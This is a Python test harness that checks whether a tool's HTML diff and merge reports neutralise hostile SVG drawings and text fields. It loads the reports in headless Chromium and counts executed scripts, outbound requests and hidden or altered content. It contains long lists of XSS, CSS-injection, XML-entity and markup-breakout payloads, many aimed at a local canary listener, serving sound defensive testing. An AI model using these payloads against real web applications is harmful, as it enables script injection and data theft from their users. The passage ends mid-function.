"""Hostile drawings and texts on the pages of `diff` and `merge`, judged in Chromium: pages.py FOLDER-OF-PROGRAMS [--count N] [--seed N]

Each page that is made of a hostile proposal is opened beside one of a harmless proposal of equal content. Counted are scripts that ran,
requests that were made, what the page's policy had to refuse, and elements of the page that look otherwise than on the harmless page, on
a screen, and on paper after a click. All counts must be 0. That a page which is spoilt is found out is shown first, on pages spoilt by
hand. Needs nothing but Chromium and playwright. The same seed makes the same proposals, but for the port that is listened on."""

import argparse
import concurrent.futures
import hashlib
import http.server
import io
import json
import os
import pathlib
import random
import re
import struct
import subprocess
import sys
import tempfile
import threading
import zipfile
import zlib
from xml.sax.saxutils import escape

from playwright.sync_api import sync_playwright

CHECKOUT = pathlib.Path(__file__).resolve().parents[2]
WIDTH, HEIGHT = 1200, 850
PLAN = "2xr3f6k77dcf60gt"

# MARK: What is sent

# Calls home by every way that markup, styles and scripts have; {url} is ours, and `canary` counts what runs.
SCRIPTS = [
    "<script>canary('script')</script>",
    "<script href='{url}/script'/>",
    "<script type='module'>import '{url}/module'</script>",
    "<rect width='1200' height='850' fill='none' pointer-events='all' onclick='canary(1)' onmouseover='canary(2)'/>",
    "<image href='{url}/broken.png' onerror='canary(3)' width='9' height='9'/>",
    "<animate attributeName='x' onbegin='canary(4)' dur='1s'/>",
    "<set attributeName='onmouseover' to='canary(5)'/>",
    "<foreignObject width='1200' height='850'><body xmlns='http://www.w3.org/1999/xhtml'><script>canary(6)</script>"
    "<iframe src='{url}/frame'/><img src='x' onerror='canary(7)'/><form action='{url}/form'><input autofocus='1' "
    "onfocus='canary(8)'/></form></body></foreignObject>",
    "<handler xmlns='http://www.w3.org/2001/xml-events' type='text/javascript'>canary(9)</handler>",
    "<use href='data:image/svg+xml,&lt;svg id=&apos;x&apos; xmlns=&apos;http://www.w3.org/2000/svg&apos; "
    "onload=&apos;canary(10)&apos;/&gt;#x'/>",
]
LINKS = [
    "<a href='javascript:canary(11)'><rect width='1200' height='850' fill-opacity='0.01'/></a>",
    "<a href='{url}/away' target='_top'><rect width='1200' height='850' fill-opacity='0.01'/></a>",
    "<a href='#s1'><animate attributeName='href' to='javascript:canary(12)' dur='1s' fill='freeze'/>"
    "<rect width='1200' height='850' fill-opacity='0.01'/></a>",
    "<image href='{url}/image.png' width='99' height='99'/>",
    "<use href='{url}/use.svg#a'/>",
    "<feImage href='{url}/fe.png'/>",
    "<filter id='f'><feImage href='{url}/filter.svg#a'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    "<rect fill='url({url}/paint.svg#a)' width='9' height='9'/>",
    "<rect style='fill:url({url}/style.svg#a);cursor:url({url}/cursor.cur),auto' width='9' height='9'/>",
    "<text style='font-family:x;src:url({url}/font)'>x</text>",
]
TARGETS = [
    ".summary", "body", "*", "html", "header", "main", "nav", "h1", "ul", "li", ".sides", "section", "td", ".changes tbody", "figure",
    ".plan", ".verdict", "#s1", "#conflicts", ":root", "svg", "details", "p", "body *", "html:not(x) .summary", "[class]", ".tab", "svg ~ *",
    ":has(svg)", "table:has(~ *)", "@media all{.summary", "@media print{*", "@layer a{*", "@supports (x:y) or (display:block){.summary",
    "\\2e summary", ".s\\75mmary", ".\\73 ummary", "#x,.summary", "svg>*,body", "::before", ".summary::after", "@scope (body){li",
    "&.summary", "x{}.summary", "/**/.summary/**/", "<!-- .summary",
]
DECLARATIONS = [
    "display:none!important", "visibility:hidden", "opacity:0", "color:transparent!important", "position:fixed;left:-9999px",
    "font-size:0!important", "transform:scale(0)", "clip-path:inset(100%)", "background:#fff url({url}/bg)", "height:0;overflow:hidden",
    "content:'No changes.'", "filter:opacity(0)", "all:unset", "--text:#fff;--ground:#fff", "pointer-events:none", "zoom:0.01",
    "mix-blend-mode:difference", "animation:a 1s infinite", "columns:9", "order:-1", "d\\69splay:none", "disp\\lay:none!important",
    "-webkit-text-fill-color:transparent", "list-style:url({url}/list)", "z-index:99999;position:absolute;inset:0;background:#fff",
]
SHEETS = [
    "@import '{url}/import.css';", "@import url(//{host}/import.css);", "@font-face{{font-family:Inter;src:url({url}/inter.woff2)}}",
    "@namespace url({url}/ns);", "@keyframes a{{to{{opacity:0}}}}", "@charset 'utf-7';", "@property --text{{syntax:'*';inherits:true}}",
    "@page{{size:1px 1px;margin:0}}", ":root{{--text:transparent;--ground:#000}}",
    ".summary{{background:image-set('{url}/set.png' 1x)}}", "@\\69mport '{url}/escaped.css';",
]
BREAKOUTS = [
    "</style></svg><style>.summary{display:none}</style><h2>No changes.</h2>", "</svg></figure></section></main>No changes.<plaintext>",
    "<![CDATA[</style><script>canary(13)</script>]]>", "<title></title></svg><img src='{url}/title' onerror='canary(14)'>",
    "<style><!--</style><img title='--></style><img src=x onerror=canary(15)>'/>", "<desc><style>body{display:none}</style></desc>",
    "<svg><p><style><g title='</style><img src=x onerror=canary(16)>'/></style></p></svg>", "<math><mtext><table><mglyph><style>",
    "</title><base href='{url}/'/><meta http-equiv='refresh' content='0;url={url}/refresh'/>",
    "<!--><script>canary(17)</script>-->", "<template><style>*{display:none}</style></template>",
]
NAMES = ["s1", "s3", "filter", "found", "conflicts", "plans", "decisions", "p1-clip-1", "row-p1-fan", "summary", "body", "view-1", "plan-p1-drawing"]


def svg(dice, url):
    """A hostile drawing, some well-formed, some not."""
    host = url.split("//")[1]
    fill = lambda text: text.replace("{{", "{").replace("}}", "}").replace("{url}", url).replace("{host}", host)
    rule = lambda: f"{(at := dice.choice(TARGETS))}{{{fill(dice.choice(DECLARATIONS))}}}" + ("}" if "{" in at else "")
    head = dice.choice([
        "", "", "", "<?xml version='1.0'?>", "\ufeff", "\n", f"<?xml-stylesheet href='{url}/pi.css'?>",
        f"<?xml-stylesheet type='text/xsl' href='{url}/pi.xsl'?>", "<!-- %PDF-1.4 -->", "<!--\n<html><body>No changes.-->",
        f"<!DOCTYPE svg PUBLIC 'x' '{url}/svg.dtd'>", f"<!DOCTYPE svg [<!ENTITY e SYSTEM '{url}/entity'>]>",
        "<!DOCTYPE svg [<!ENTITY e \"</style><script>canary(18)</script>\">]>",
    ])
    parts = []
    for _ in range(dice.randint(1, 4)):
        kind = dice.randrange(7)
        if kind == 0:
            parts.append(fill(dice.choice(SCRIPTS)))
        elif kind == 1:
            parts.append(fill(dice.choice(LINKS)))
        elif kind in (2, 3):
            sheet = fill(dice.choice(SHEETS)) if dice.random() < 0.4 else ""
            sheet += "".join(rule() for _ in range(dice.randint(1, 4)))
            sheet = sheet if dice.random() < 0.5 and "<" not in sheet else f"<![CDATA[{sheet}]]>"
            kind_of = dice.choice(["", " type='text/css'", " media='all'"])
            parts.append(f"<style{kind_of}>{sheet}</style>")
        elif kind == 4:
            text = fill(dice.choice(BREAKOUTS))
            # Most as a text, in an element that is well-formed; some as they are, which few readers take.
            element = dice.choice(["text x='20' y='200'", "title", "desc", "style"])
            parts.append(text if dice.random() < 0.2 else f"<{element}>{escape(text)}</{element.split()[0]}>")
        elif kind == 5:
            name = dice.choice(NAMES)
            parts.append(f"<g id='{name}' class='summary verdict {name}'><rect id='{name}' class='change hot' width='50' height='50'/></g>")
        else:
            style = fill(dice.choice(DECLARATIONS))
            parts.append(f"<g style=\"{style}\" class='summary'><text class='sides' x='9' y='{dice.randint(20, 800)}'>No changes.</text></g>")
    if "ENTITY e" in head:
        parts.append("&e;")
    root = dice.choice(["", " onload='canary(19)'", " style='position:fixed;inset:0;z-index:9;width:9999px'", " class='summary'", " id='s1'"])
    name = "s:svg xmlns:s='http://www.w3.org/2000/svg'" if dice.random() < 0.05 else "svg"
    body = "".join(parts)
    return (f"{head}<{name} xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='{WIDTH}' "
            f"height='{HEIGHT}' viewBox='0 0 {WIDTH} {HEIGHT}'{root}>{body}<rect width='900' height='700' x='50' y='50' fill='none' "
            f"stroke='#345'/></{name.split()[0]}>\n").encode("utf-8")


def png(*chunks):
    chunk = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + b"\xee" * (3 * WIDTH) for _ in range(HEIGHT))
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", WIDTH, HEIGHT, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunk(*one) for one in chunks) + chunk(b"IDAT", zlib.compress(rows, 1)) + chunk(b"IEND", b"")


def with_comment(jpeg, text):
    """A JPEG with a comment and a segment of an application."""
    text = text[:60000]
    return jpeg[:2] + b"".join(b"\xff" + kind + struct.pack(">H", len(text) + 2) + text for kind in (b"\xfe", b"\xec")) + jpeg[2:]


def texts(dice, url):
    """A hostile text of one line."""
    payload = dice.choice([
        "<script>canary(20)</script>", "</script><script>canary(21)</script>", "\"><img src=x onerror=canary(22)>", "' onmouseover='canary(23)",
        "<style>.summary{display:none}</style>", "</style><style>*{visibility:hidden}", "]]><script>canary(24)</script><![CDATA[",
        "--><h1>No changes</h1><!--", "</svg><style>body{display:none}</style>", "\u202eexe.slla\u202c", "\u2066\u2067abc\u2069", "\u200b\u200d\u2060",
        "javascript:canary(25)", "&lt;script&gt;canary(26)&lt;/script&gt;", "&#60;script&#62;", "{{constructor.constructor('canary(27)')()}}",
        f"<a href='{url}/text'>x</a>", f"<base href='{url}/'>", f"<link rel=stylesheet href='{url}/x.css'>", "</title><script>canary(28)</script>",
        f"<meta http-equiv=refresh content='0;url={url}/meta'>", "</textarea></table></section></main>", "<plaintext>", "<!--", "<svg onload=canary(29)>",
        "\u2028\u2029canary(30)", "\ufeff<b>", "<template><slot>", f"url({url}/css)", "');background:url(x", "\\3c script\\3e ", "<\u0338script>",
        "<math><mi//xlink:href='data:x,<script>canary(31)</script>'>", "<details open ontoggle=canary(32)>", "<input autofocus onfocus=canary(33)>",
    ])
    return dice.choice(["", "x ", "Kap ", "\" "]) + payload + dice.choice(["", " y", "\"", "'", ">"])


class Package:
    """A proposal as its parts."""

    def __init__(self, file):
        with zipfile.ZipFile(file) as archive:
            self.files = {name: archive.read(name) for name in archive.namelist() if name != "mimetype"}
        self.manifest = json.loads(self.files.pop("manifest.json"))

    def copy(self):
        other = object.__new__(Package)
        other.files, other.manifest = dict(self.files), json.loads(json.dumps(self.manifest))
        return other

    def edit(self, path, change):
        tree = json.loads(self.files[path])
        change(tree)
        self.files[path] = (json.dumps(tree, indent=2, ensure_ascii=False) + "\n").encode()

    def draw(self, drawing, said, plan=PLAN):
        """Puts a drawing in the place of a plan's own; its facts say that it is of another kind than it is."""
        ending, unit = {"application/pdf": ("pdf", "pt"), "image/svg+xml": ("svg", "px"), "image/png": ("png", "px"), "image/jpeg": ("jpg", "px")}[said]
        path = f"plans/{plan}/overlay.json"

        def change(tree):
            self.files.pop(tree["source"]["path"], None)
            tree["source"] = {
                "path": f"plans/{plan}/source.{ending}", "mediaType": said, "sha256": hashlib.sha256(drawing).hexdigest(),
                "size": len(drawing), "fileName": f"plan.{ending}", **({"page": 1, "pageCount": 1} if ending == "pdf" else {}),
                "width": WIDTH, "height": HEIGHT, "unit": unit}
        self.edit(path, change)
        self.files[f"plans/{plan}/source.{ending}"] = drawing

    def write(self, file):
        media = {"json": "application/json", "pdf": "application/pdf", "svg": "image/svg+xml", "png": "image/png", "jpg": "image/jpeg"}
        known = {row["path"]: row for row in self.manifest["parts"]}
        rows = []
        for path, data in sorted(self.files.items(), key=lambda item: item[0].encode()):
            row = known.get(path) or {"path": path, "role": "plan-source" if "/source." in path else "plan-overlay"}
            rows.append({**row, "mediaType": media[path.rsplit(".", 1)[-1]], "size": len(data), "sha256": hashlib.sha256(data).hexdigest()})
        manifest = {**self.manifest, "parts": rows}
        entries = {"mimetype": b"application/vnd.ency.proposal+zip",
                   "manifest.json": (json.dumps(manifest, indent=2, ensure_ascii=False) + "\n").encode(),
                   **dict(sorted(self.files.items(), key=lambda item: item[0].encode()))}
        with zipfile.ZipFile(file, "w") as archive:
            for name, data in entries.items():
                entry = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
                entry.create_system, entry.external_attr = 3, 0o100644 << 16
                archive.writestr(entry, data, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED, 1)


def base():
    """The sample, in English, its plan as large as the drawings that are put in its place."""
    package = Package(CHECKOUT / "SampleDocuments/warehouse/warehouse.ency")
    package.edit("model/proposal.json", lambda tree: tree.update(language="en"))

    def shrink(tree):
        for fan in tree["fans"]:
            fan["position"] = {"x": fan["position"]["x"] / 2, "y": fan["position"]["y"] / 2}
        tree["scale"] = {"kind": "twoPoints", "from": {"x": 100, "y": 100}, "to": {"x": 950, "y": 100}, "length": 60000}
    package.edit(f"plans/{PLAN}/overlay.json", shrink)
    return package


def later(package, text):
    """What a colleague changed."""
    other = package.copy()
    other.manifest["revision"] += 1
    other.edit("model/building.json", lambda tree: tree.update(ceilingHeight=11_000))
    other.edit("model/customer.json", lambda tree: tree["contacts"][0].update(role=text))
    other.edit(f"plans/{PLAN}/overlay.json", lambda tree: tree["fans"][0]["position"].update(x=tree["fans"][0]["position"]["x"] + 40))
    return other


PLACEHOLDER = "Placeholder"


def label(package, text):
    """Texts that stand on both sides: in headings, tables and on the plan."""
    package.edit("model/proposal.json", lambda tree: tree.update(title=text))
    package.edit("model/products.json", lambda tree: tree["products"][0].update(name=text))
    package.edit(f"plans/{PLAN}/overlay.json", lambda tree: tree.update(name=text))


def scene(case, drawing, said, text):
    """The proposals of a case: whose drawing is hostile differs from case to case."""
    old = base()
    earlier = svg_of("<circle cx='300' cy='300' r='80'/>")
    way = case % 4
    if way in (0, 1):
        # The drawing that both have.
        old.draw(drawing, said)
    else:
        old.draw(earlier, "image/svg+xml")
    if text is not None:
        label(old, text)
    new = later(old, "Purchase" if text is None else text)
    if way == 2:
        # It takes another's place.
        new.draw(drawing, said)
    if way == 3:
        # A plan more.
        new.files["plans/more/overlay.json"] = new.files[f"plans/{PLAN}/overlay.json"]
        new.edit("plans/more/overlay.json", lambda tree: (tree.update(name="More"), tree["source"].update(path="-"), tree.update(fans=[])))
        new.draw(drawing, said, "more")
    return old, new


def svg_of(body):
    return (f"<svg xmlns='http://www.w3.org/2000/svg' width='{WIDTH}' height='{HEIGHT}' viewBox='0 0 {WIDTH} {HEIGHT}'>{body}"
            "<rect width='900' height='700' x='50' y='50' fill='none' stroke='#345'/></svg>\n").encode()


class Maker:
    """Makes pages with the programs that were built."""

    def __init__(self, programs, work):
        self.work = work
        self.environment = {"PATH": f"{programs}:{os.environ['PATH']}", "HOME": str(work), "ENCY_CACHE": "off", "LANG": "C.UTF-8",
                            "SOURCE_DATE_EPOCH": "1780000000", "ENCY_ID_SEED": "attack"}

    def run(self, folder, *words):
        return subprocess.run(words, cwd=folder, env=self.environment, capture_output=True, timeout=300)

    def pages(self, name, case, drawing, said, text=None):
        """The pages of a diff and of a merge, by their kinds; what could not be made is left out."""
        old, new = scene(case, drawing, said, text)
        own = old.copy()
        own.manifest["revision"] += 1
        own.edit("model/building.json", lambda tree: tree.update(ceilingHeight=9_800, width=41_000))
        folder = self.work / name
        folder.mkdir()
        for file, package in (("old", old), ("new", new), ("own", own)):
            package.write(folder / f"{file}.ency")
        made, said_of = {}, []
        for kind, words in (
            ("diff", ["diff", "old.ency", "new.ency", "--format", "html", "-o", "diff.html"]),
            ("merge", ["merge", "old.ency", "own.ency", "new.ency", "-o", "merged.ency", "--report", "merge.html", "--force"]),
        ):
            done = self.run(folder, "ency-press", *words)
            if done.returncode in (0, 1) and (folder / f"{kind}.html").exists():
                made[kind] = folder / f"{kind}.html"
            else:
                said_of.append(f"{name}: {kind} exits {done.returncode}: {done.stderr.decode(errors='replace')[-300:]}")
        return made, said_of


# MARK: What is looked at

LOOK = r"""() => {
  const names = ["display", "visibility", "opacity", "color", "backgroundColor", "position", "float", "zIndex", "fontSize", "fontFamily",
    "fontWeight", "transform", "clipPath", "filter", "mixBlendMode", "pointerEvents", "overflowX", "textDecorationLine", "whiteSpace",
    "backgroundImage", "cursor", "listStyleImage", "animationName", "textTransform", "direction", "unicodeBidi", "zoom", "webkitTextFillColor"];
  const looks = element => { const style = getComputedStyle(element); return names.map(name => style[name]).join("|"); };
  const extra = element => ["::before", "::after"].map(part => getComputedStyle(element, part).content).join("|");
  const name = element => element.tagName + "." + (element.getAttribute("class") || "") + "[" + element.getAttributeNames().sort().join(" ") + "]";
  const own = [], drawn = {}, foreign = [];
  for (const element of document.querySelectorAll("*")) {
    const inside = element.closest("svg");
    if (inside && inside !== element) {
      const kind = element.tagName + "." + (element.getAttribute("class") || "");
      const look = looks(element).split("|");
      // What our drawing has as attributes may differ from mark to mark.
      (drawn[kind] = drawn[kind] || new Set()).add(["display", "visibility", "position", "filter", "pointerEvents", "mixBlendMode",
        "animationName", "zoom"].map(wanted => look[names.indexOf(wanted)]).join("|"));
      if (element.namespaceURI !== "http://www.w3.org/2000/svg") { foreign.push(element.tagName); }
      continue;
    }
    const box = element.getBoundingClientRect();
    own.push({name: name(element), look: looks(element), extra: extra(element), id: element.id,
      box: [box.x + scrollX, box.y + scrollY, box.width, box.height].map(number => Math.round(number * 4) / 4).join(" ")});
  }
  const sources = [...document.querySelectorAll("[src],[href]")].flatMap(element => ["src", "href", "xlink:href"].map(wanted =>
    element.getAttribute(wanted)).filter(value => value !== null));
  // An image of outlines holds nothing that would run or be fetched, even where a browser took it for a page.
  const harmful = /<(script|foreignobject|style|animate|set|handler|iframe)\b|\son\w+\s*=|(href|src)\s*=\s*["'](?!#|data:image\/(png|jpeg|gif);)|url\((?!["']?#)|<!/i;
  const loaded = sources.filter(value => value.startsWith("data:image/svg+xml;base64,")).filter(value => harmful.test(atob(value.split(",")[1])));
  // What a reader must not miss: of an offer that is its title.
  const summary = document.querySelector(".verdict, .summary") ?? document.querySelector("h1");
  summary.scrollIntoView({block: "center", behavior: "instant"});
  const box = summary.getBoundingClientRect();
  const hit = document.elementFromPoint(box.left + Math.min(60, box.width / 2), box.top + box.height / 2);
  const styles = [...document.querySelectorAll("style")].length, scripts = [...document.querySelectorAll("script")].length;
  return {own, drawn: Object.fromEntries(Object.entries(drawn).map(([kind, set]) => [kind, [...set].sort()])), foreign,
    isOnTop: hit !== null && summary.contains(hit), area: box.width * box.height, words: document.body.innerText, styles, scripts,
    summary: summary.innerText, loaded: loaded.length, sources: sources.map(value => value.slice(0, 24)), plans: document.querySelectorAll("figure.plan svg").length, named: [...document.querySelectorAll("[id]")].map(element => element.id)};
}"""
# Puts the text of a case where the harmless page has a word, as a text.
FILL = r"""([word, text]) => {
  const walk = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) { if (walk.currentNode.data.includes(word)) { walk.currentNode.data = walk.currentNode.data.replaceAll(word, text); } }
}"""


class Listener:
    """A server that nobody should ask."""

    def __init__(self):
        asked = self.asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()
            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *words):
                pass
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


class Judge:
    """Opens pages and counts what they do."""

    def __init__(self, browser, listener):
        self.browser, self.listener = browser, listener
        self.looks = 0

    def open(self, file, fill=None):
        """What a page does and looks like, on a screen and on paper."""
        # Without smooth scrolling, for which the browser would be waited for.
        context = self.browser.new_context(
            viewport={"width": 1280, "height": 900}, accept_downloads=False, reduced_motion="reduce")
        scripts, requests, refused, gone = [], [], [], []
        context.add_init_script(
            "window.canaries = []; window.canary = window.alert = window.confirm = window.prompt = function (what) "
            "{ window.canaries.push(String(what)); console.log('canary ' + what); };"
            "document.addEventListener('securitypolicyviolation', function (event) { console.log('refused ' + event.effectiveDirective); });")
        page = context.new_page()

        def console(message):
            if "canary" in message.text and "refused" not in message.text.lower():
                scripts.append(message.text)
            elif message.text.startswith("refused ") or message.type == "error":
                refused.append(message.text[:160])
        page.on("console", console)
        page.on("pageerror", lambda error: scripts.append(f"error: {error}"))
        page.on("dialog", lambda dialog: (scripts.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        context.on("page", lambda other: gone.append("a window") if other is not page else None)
        page.on("framenavigated", lambda frame: gone.append(frame.url[:90]) if frame.url.split("#")[0] != file.as_uri() else None)

        def route(route):
            url = route.request.url
            if url.split("#")[0] == file.as_uri() or url.startswith("data:"):
                return route.continue_()
            requests.append(url[:90])
            # It is let through, for the listener to hear of it.
            return route.continue_() if url.startswith(self.listener.url) else route.abort()
        context.route("**/*", route)
        before = len(self.listener.asked)
        page.goto(file.as_uri(), wait_until="load")
        if fill:
            page.evaluate(FILL, fill)
        screen = page.evaluate(LOOK)
        # As a reader: over the plan, and a click on it, which leads to a row at most.
        for figure in page.query_selector_all("figure.plan svg, figure.plan img")[:2]:
            if figure.is_visible():
                figure.hover(force=True, timeout=2000)
                figure.click(force=True, timeout=2000)
        page.emulate_media(media="print")
        paper = page.evaluate(LOOK)
        page.wait_for_timeout(20)
        ran = page.evaluate("window.canaries.length")
        requests += self.listener.asked[before:]
        context.close()
        self.looks += 2
        return {"screen": screen, "paper": paper, "scripts": scripts + ["canary"] * ran, "requests": requests, "refused": refused, "gone": gone}

    @staticmethod
    def differences(seen, wanted, with_boxes):
        """What of a page's own elements is otherwise than it must be, a line each."""
        found = []
        for media in ("screen", "paper"):
            one, two = seen[media], wanted[media]
            if len(one["own"]) != len(two["own"]):
                found.append(f"{media}: {len(one['own'])} elements instead of {len(two['own'])}")
            for mine, other in zip(one["own"], two["own"]):
                for what in ("name", "id", "look", "extra") + (("box",) if with_boxes else ()):
                    if mine[what] != other[what]:
                        found.append(f"{media}: {what} of {mine['name'][:60]}: {mine[what][:200]} instead of {other[what][:200]}")
            for kind, looks in one["drawn"].items():
                if not set(looks) <= set(two["drawn"].get(kind, [])):
                    found.append(f"{media}: {kind} in a drawing looks like {looks[:2]}")
            if one["foreign"]:
                found.append(f"{media}: {one['foreign'][:3]} in a drawing")
            for what in ("styles", "scripts", "plans"):
                if one[what] != two[what]:
                    found.append(f"{media}: {one[what]} {what} instead of {two[what]}")
            for source in one["sources"]:
                if not source.startswith(("#", "data:image/png;base64,", "data:image/jpeg;base64,"[:24], "data:image/svg+xml;base64,"[:24])):
                    found.append(f"{media}: leads to {source}")
            if one["loaded"]:
                found.append(f"{media}: {one['loaded']} images of outlines with more than outlines")
            doubles = sorted({name for name in one["named"] if one["named"].count(name) > 1})
            if doubles:
                found.append(f"{media}: ids {doubles[:3]} twice")
            if not one["summary"].strip() or one["area"] <= 0 or plain(one["summary"]) != plain(two["summary"]):
                found.append(f"{media}: the summary says {one['summary'][:90]!r} instead of {two['summary'][:90]!r}")
            if media == "screen" and not one["isOnTop"]:
                found.append(f"{media}: something lies over the summary")
            for words in ("No changes.", "Nothing differs."):
                if (words in one["words"]) != (words in two["words"]):
                    found.append(f"{media}: it says that nothing changed")
        return found


def shown(text):
    """A text without what pages leave out, or show as an escape: control characters, separators of lines, explicit directions."""
    return re.sub(r"[\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\\u\{[0-9A-Fa-f]+\}", "", text)


def plain(text):
    """The same without spaces, which are not always shown."""
    return "".join(shown(text).split())


# MARK: Pages that are spoilt by hand

def spoilt(page):
    """What each must be found by, and the page."""
    loose = re.sub(r"(style|script)-src '[^']*'", r"\1-src 'unsafe-inline'", page)
    free = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", page)
    into = lambda text, more: text.replace("</main>", more + "</main>", 1)
    yield "looks", into(loose, "<svg><style>.summary{display:none!important}</style></svg>")
    yield "looks", into(loose, "<style>:root{--text:#fff!important}</style>")
    yield "looks", into(loose, "<style>@media print{.summary{visibility:hidden}}</style>")
    yield "looks", loose.replace("<ul class=\"summary\">", "<ul class=\"summary\" style=\"position:fixed;left:-999px\">", 1)
    yield "looks", into(loose, "<a href='#s1' style='position:fixed;inset:0;z-index:9'></a>")
    yield "looks", into(page, "<p>No changes.</p>")
    yield "looks", page.replace("<ul class=\"summary\">", "<ul class=\"summary\" hidden>", 1)
    yield "looks", re.sub(r"(<g class=\"plan\")", r"<g id='s1' class='plan'/>\1", page, count=1) if "<g class=\"plan\"" in page else into(page, "<p id='s1'></p>")
    yield "refused", into(page, "<svg><style>.summary{display:none!important}</style></svg>")
    yield "refused", into(page, "<p style='color:red'>x</p>")
    yield "refused", into(page, "<script>canary(1)</script>")
    yield "scripts", into(loose, "<script>canary(1)</script>")
    yield "scripts", into(loose, "<img src='data:,' onerror='canary(2)'>")
    yield "scripts", re.sub(r"(<figure class=\"plan\" tabindex=\"0\">)", r"\1", loose).replace("<figure class=\"plan\"", "<figure onclick='canary(3)' class=\"plan\"", 1)
    yield "requests", into(free, "<img src='{url}/spoilt.png'>")
    yield "requests", into(free, "<svg><style>@import '{url}/spoilt.css';</style></svg>")
    yield "requests", free.replace("<head>", "<head><link rel='stylesheet' href='{url}/spoilt.css'>", 1)
    yield "gone", into(free, "<meta http-equiv='refresh' content='0;url=about:blank'>")


def self_test(judge, work, file):
    """Pages that are spoilt must be found out, and the one that isn't must not."""
    text = file.read_text(encoding="utf-8")
    wanted = judge.open(file)
    missed = 0
    same = judge.open(file)
    if judge.differences(same, wanted, True) or same["scripts"] or same["requests"] or same["refused"] or same["gone"]:
        print("pages: a harmless page isn't like itself", file=sys.stderr)
        missed += 1
    tried = 0
    for number, (way, page) in enumerate(spoilt(text)):
        spoiled = work / f"spoilt-{number}.html"
        spoiled.write_text(page.replace("{url}", judge.listener.url), encoding="utf-8")
        try:
            seen = judge.open(spoiled)
            found = judge.differences(seen, wanted, True) if way == "looks" else seen[way]
        except Exception as error:
            found = [str(error)] if way == "gone" else []
        tried += 1
        if not found:
            print(f"pages: a page that is spoilt in its {way} passes: {spoiled}", file=sys.stderr)
            missed += 1
    return tried, missed


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("programs", type=pathlib.Path)
    parser.add_argument("--count", type=int, default=200, help="hostile drawings, and as many hostile texts")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--keep", type=pathlib.Path, help="a folder for what is made")
    parser.add_argument("--browser", default="/usr/bin/chromium")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="ency-pages-") as temporary:
        work = options.keep or pathlib.Path(temporary)
        work.mkdir(parents=True, exist_ok=True)
        sys.exit(judged(options, work.resolve()))


def judged(options, work):
    listener = Listener()
    maker = Maker(options.programs.resolve(), work)
    dice = random.Random(options.seed)
    kinds = ["image/svg+xml", "image/jpeg", "image/png", "application/pdf"]
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=options.browser, args=["--no-sandbox"])
        # A picture that is one, made by the browser.
        page = browser.new_page(viewport={"width": WIDTH, "height": HEIGHT})
        page.set_content("<body style='background:#eee'>")
        jpeg = page.screenshot(type="jpeg", quality=60)
        page.close()

        jobs = []
        for case in range(options.count):
            drawing = svg(dice, listener.url)
            said = dice.choice(kinds)
            if case % 10 == 9:
                # A picture with markup in it, or an SVG that begins as something else does.
                drawing = dice.choice([
                    with_comment(jpeg, drawing), png((b"tEXt", b"Comment\0" + drawing[:9000]), (b"iTXt", b"XML\0\0\0\0\0" + drawing[:9000])),
                    b"\xff\xd8\xff" + drawing, b"\x89PNG\r\n\x1a\n" + drawing, b"GIF89a" + drawing, b"%PDF-1.7\n" + drawing,
                    drawing + b"\n%%EOF", zlib.compress(drawing), b"\x1f\x8b" + drawing])
            jobs.append((f"svg-{case}", case, drawing, said, None))
        for case in range(options.count):
            jobs.append((f"text-{case}", case, svg_of(""), "image/svg+xml", texts(dice, listener.url)))
        made, unmade = {}, []
        with concurrent.futures.ThreadPoolExecutor(os.cpu_count() or 2) as pool:
            for job, (pages, words) in zip(jobs, pool.map(lambda job: maker.pages(*job), jobs)):
                made[job[0]] = pages
                unmade += words
        judge = Judge(browser, listener)
        # Harmless drawings: that can be drawn, as an SVG or as a picture, and that can't.
        plain_ones = {"drawn": svg_of(""), "word": svg_of(""), "jpeg": jpeg, "none": b"<svg xmlns='http://www.w3.org/2000/svg'>"}

        def twin(kind, way, said):
            """The pages of a harmless proposal."""
            name = f"{kind}-{way}-{said.split('/')[1][:3]}"
            if name not in made:
                made[name], words = maker.pages(name, way, plain_ones[kind], said, PLACEHOLDER if kind == "word" else None)
                unmade.extend(words)
            return made[name]

        tried, missed = self_test(judge, work, twin("drawn", 0, kinds[0])["diff"])
        print(f"pages: {tried} pages spoilt by hand, {tried - missed} found out")

        known = {}

        def harmless(twins, way, said, kind):
            key = (twins, way, said, kind)
            if key not in known:
                known[key] = judge.open(twin(twins, way, said)[kind])
            return known[key]

        counts = {"scripts": 0, "requests": 0, "refused": 0, "gone": 0, "looks": 0}
        told, drawn, undrawn = [], 0, 0
        for name, case, drawing, said, text in jobs:
            if not name.startswith(("svg-", "text-")):
                continue
            for kind, file in made[name].items():
                try:
                    seen = judge.open(file)
                except Exception as error:
                    counts["gone"] += 1
                    told.append(f"{name} {kind}: gone: {error}")
                    continue
                if text is not None:
                    wanted = judge.open(twin("word", case % 4, said)[kind], [PLACEHOLDER, shown(text)])
                    # How wide a text is decides where labels on the drawing find room.
                    found = judge.differences(seen, wanted, False)
                else:
                    def is_like(twins):
                        wanted = harmless(twins, case % 4, said, kind)["screen"]
                        return (wanted["plans"] == seen["screen"]["plans"] and len(wanted["own"]) == len(seen["screen"]["own"])
                                and set(wanted["drawn"]) >= set(seen["screen"]["drawn"]))
